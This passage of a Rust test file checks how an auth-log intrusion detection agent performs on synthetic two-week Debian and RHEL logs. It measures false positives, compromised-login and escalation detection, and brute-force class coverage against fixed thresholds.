        for (ip, (d, why)) in &self.legit_ips_flagged {
            s.push_str(&format!("  {ip} day {d}: {why}\n"));
        }
        s.push_str(&format!("compromised logins flagged: {} of {}\n", self.compromised.1, self.compromised.0));
        s.push_str(&format!("escalation sessions flagged: {} of {}\n", self.escalation.1, self.escalation.0));
        let mut c = self.escalation_confidence.clone();
        c.sort_by(f64::total_cmp);
        if let (Some(lo), Some(hi)) = (c.first(), c.last()) {
            s.push_str(&format!(
                "  their confidence: {lo:.3} to {hi:.3}, median {:.3}; {} by the model (above the rules' 0.5)\n",
                c[c.len() / 2],
                c.iter().filter(|&&x| x > 0.5).count()
            ));
        }
        for m in &self.escalation_missed {
            s.push_str(&format!("  missed: {m}\n"));
        }
        for (class, (n, f)) in &self.classes {
            s.push_str(&format!("{class}: {f} of {n} addresses flagged\n"));
        }
        for m in &self.legit_flagged_sample {
            s.push_str(&format!("  legit flagged: {m}\n"));
        }
        if !self.missing.is_empty() {
            s.push_str(&format!("sessions not reported: {:?}\n", self.missing));
        }
        s
    }
}

fn measure(gen: &Generated, records: &[Value]) -> Measured {
    let mut m = Measured::default();
    let suspicious = |o: &Value| o["prediction"] == "Suspicious";
    let by_pid: BTreeMap<u32, &Value> = records
        .iter()
        .filter(|o| o["kind"] == "session")
        .filter_map(|o| Some((o["details"]["session_id"].as_str()?.parse().ok()?, o)))
        .collect();
    for (pid, truth) in &gen.sessions {
        let Some(o) = by_pid.get(pid) else {
            m.missing.push(*pid);
            continue;
        };
        assert_eq!(o["user"].as_str(), Some(truth.user), "session {pid}");
        assert_eq!(o["source_ip"].as_str(), Some(truth.ip.as_str()), "session {pid}");
        let flagged = suspicious(o);
        let what = format!(
            "{} from {} day {} ({:.2}): {}",
            truth.user,
            truth.ip,
            truth.day,
            o["confidence"].as_f64().unwrap_or(0.0),
            o["reasons"]
        );
        match truth.truth {
            Truth::Legitimate => {
                let e = m.legit.entry(truth.day).or_default();
                e.0 += 1;
                if flagged {
                    e.1 += 1;
                    // A few of each day, to show why.
                    if e.1 <= 3 {
                        m.legit_flagged_sample.push(what);
                    }
                }
            }
            Truth::Escalation => {
                m.escalation.0 += 1;
                if flagged {
                    m.escalation.1 += 1;
                    m.escalation_confidence.push(o["confidence"].as_f64().unwrap_or(0.0));
                } else {
                    m.escalation_missed.push(format!("{what} commands {}", o["commands"]));
                }
            }
            Truth::Compromised => {
                m.compromised.0 += 1;
                m.compromised.1 += usize::from(flagged);
            }
        }
    }
    // A record's day: its start less the log's start (the first reported
    // legitimate session tells where the log's day 0 lies).
    let day0 = gen
        .sessions
        .iter()
        .find_map(|(pid, t)| {
            by_pid.get(pid).map(|o| {
                o["start"].as_i64().unwrap() - o["start"].as_i64().unwrap() % DAY as i64 - (t.day * DAY) as i64
            })
        })
        .unwrap_or(0);
    let mut flagged_ips = BTreeSet::new();
    for o in records.iter().filter(|o| suspicious(o)) {
        let mut ips: Vec<String> = o["source_ip"].as_str().map(str::to_string).into_iter().collect();
        if let Some(sample) = o["details"]["sample_sources"].as_array() {
            ips.extend(sample.iter().filter_map(|v| v.as_str().map(str::to_string)));
        }
        let day = ((o["start"].as_i64().unwrap() - day0).max(0) as u64) / DAY;
        for ip in ips {
            if gen.legit_ips.contains(&ip) {
                let why = format!("{} {} {}", o["kind"], o["user"], o["reasons"]);
                m.legit_ips_flagged.entry(ip.clone()).or_insert((day, why));
            }
            flagged_ips.insert(ip);
        }
    }
    for class in CLASSES {
        let ips = &gen.attack_ips[class];
        m.classes.insert(class, (ips.len(), ips.iter().filter(|ip| flagged_ips.contains(*ip)).count()));
    }
    m
}

/// `bfp-agent scan` of the whole file.
fn scan(log: &Path) -> Vec<Value> {
    let out = agent(&["scan", "--format", "jsonl", log.to_str().unwrap()]);
    assert!(out.status.success(), "scan failed: {}", String::from_utf8_lossy(&out.stderr));
    let mut records = json_lines(&out.stdout);
    let summary = records.pop().expect("a summary");
    assert_eq!(summary["kind"], "summary");
    // Every line the generator writes is a real form the agent reads (logind's included).
    assert_eq!(summary["unknown_lines"], 0, "not understood: {}", summary["unknown_by_program"]);
    records
}

/// `bfp-agent run` from an empty state directory, following `log` while
/// the two weeks are appended to it a day at a time.
fn run(dir: &Path, text: &str) -> Vec<Value> {
    let log = dir.join("auth.log");
    let state = dir.join("state");
    let output = dir.join("results.jsonl");
    fs::write(&log, "").unwrap();
    let args = [
        "--follow",
        log.to_str().unwrap(),
        "--state-dir",
        state.to_str().unwrap(),
        "--output",
        output.to_str().unwrap(),
        "--poll-interval-ms",
        "20",
    ];
    let running = RunningAgent::start(&args, None);
    wait_until(60, "the first checkpoint", || consumed(&state, &log));
    let lines: Vec<&str> = text.lines().collect();
    for part in lines.chunks(lines.len().div_ceil(DAYS as usize)) {
        append(&log, part);
        wait_until(300, "a day of the log read", || consumed(&state, &log));
    }
    running.stop();
    json_lines(&fs::read(&output).unwrap())
}

/// The bars, each checked (all failures listed together, so a run
/// shows every bar that is not met).
fn check_bars(m: &Measured, title: &str) -> Vec<String> {
    let mut failed = Vec::new();
    for (d, (n, f)) in &m.legit {
        if m.legit_rate(*d) > 0.002 {
            failed.push(format!("{title}: day {d}: {f} of {n} legitimate sessions flagged (> 0.2 %)"));
        }
    }
    if !m.legit_ips_flagged.is_empty() {
        failed.push(format!("{title}: {} legitimate addresses flagged", m.legit_ips_flagged.len()));
    }
    if m.compromised.1 < m.compromised.0 {
        failed.push(format!("{title}: {} of {} compromised logins flagged", m.compromised.1, m.compromised.0));
    }
    if (m.escalation.1 as f64) < 0.9 * m.escalation.0 as f64 {
        failed.push(format!("{title}: {} of {} escalation sessions flagged (< 90 %)", m.escalation.1, m.escalation.0));
    }
    // Who raised the escalation verdicts (the model with its calibrated
    // confidence, or the refused-escalation rule at 0.5) is shown in the
    // table, not a bar: on this generator's insiders (accounts with history,
    // from their own network, nothing but the refusal in the session) the
    // schema-3 model says Normal and the rule decides.
    for class in ["fast brute force", "slow brute force", "distributed brute force", "dropbear brute force"] {
        let (n, f) = m.classes[class];
        // A distributed campaign is caught when most of its addresses are
        // (each tries only two or three passwords); the others, every address.
        let caught = if class == "distributed brute force" { 2 * f >= n } else { f == n };
        if !caught {
            failed.push(format!("{title}: {class}: {f} of {n} addresses flagged"));
        }
    }
    if !m.missing.is_empty() {
        failed.push(format!("{title}: {} sessions not reported", m.missing.len()));
    }
    failed
}

fn first_day_trust(flavor: Flavor, seed: u64) {
    let gen = generate(flavor, seed);
    let dir = temp_dir();
    let log = dir.path().join("generated.log");
    fs::write(&log, &gen.text).unwrap();
    let scanned = measure(&gen, &scan(&log));
    let followed = measure(&gen, &run(dir.path(), &gen.text));
    let scan_title = format!("{flavor:?} seed {seed}: bfp-agent scan");
    let run_title = format!("{flavor:?} seed {seed}: bfp-agent run");
    println!("{}", scanned.table(&scan_title));
    println!("{}", followed.table(&run_title));
    let mut failed = check_bars(&scanned, &scan_title);
    failed.extend(check_bars(&followed, &run_title));
    // Met (Debian and RHEL, scan and run alike): day 0 0 of 490 legitimate sessions flagged,
    // after day 0 0 of 6,345 (the contractor new on day 9 is judged on what he did: see
    // docs/detection.md, "An account new to a device with history"), no legitimate address,
    // 3 of 3 compromised logins, 16 of 16 escalation sessions, every attack class. Written
    // with 26 of 490, 27 of 6,345, 15 addresses and 13 of 16; 0, 5 (his 5 logins), 1 and 16
    // before the newcomer rule.
    assert!(failed.is_empty(), "bars not met:\n{}", failed.join("\n"));
}

#[test]
fn the_generated_log_holds_what_its_truth_says() {
    // The generator itself, checked by counting its lines independently.
    let gen = generate(Flavor::Debian, 7);
    let accepted = gen.text.lines().filter(|l| l.contains("]: Accepted ")).count();
    assert_eq!(accepted, gen.sessions.len());
    let days: BTreeSet<u64> = gen.sessions.values().map(|s| s.day).collect();
    assert_eq!(days.len() as u64, DAYS);
    let legit = gen.sessions.values().filter(|s| s.truth == Truth::Legitimate).count();
    assert!(legit > 6_000, "{legit}");
    assert_eq!(gen.sessions.values().filter(|s| s.truth == Truth::Escalation).count(), 16);
    assert_eq!(gen.sessions.values().filter(|s| s.truth == Truth::Compromised).count(), 3);
    assert!(gen.legit_ips.len() >= 15, "{:?}", gen.legit_ips);
    // Lines are in time order (a syslog file is), so the stamp sorts.
    let stamps: Vec<&str> = gen.text.lines().map(|l| &l[..15]).collect();
    assert!(stamps.windows(2).all(|w| w[0] <= w[1]));
    // Same seed, same log; another seed, another.
    assert_eq!(generate(Flavor::Debian, 7).text, gen.text);
    assert_ne!(generate(Flavor::Debian, 8).text, gen.text);
    let rhel = generate(Flavor::Rhel, 7);
    assert!(!rhel.text.contains("systemd-logind") && rhel.text.contains("PAM 5 more authentication failures"));
}

/// The bars on both logs.
#[test]
fn debian_two_weeks_first_day_under_attack_meet_the_bars() {
    first_day_trust(Flavor::Debian, 0x5EED_0001);
}

#[test]
fn rhel_two_weeks_first_day_under_attack_meet_the_bars() {
    first_day_trust(Flavor::Rhel, 0x5EED_0002);
}
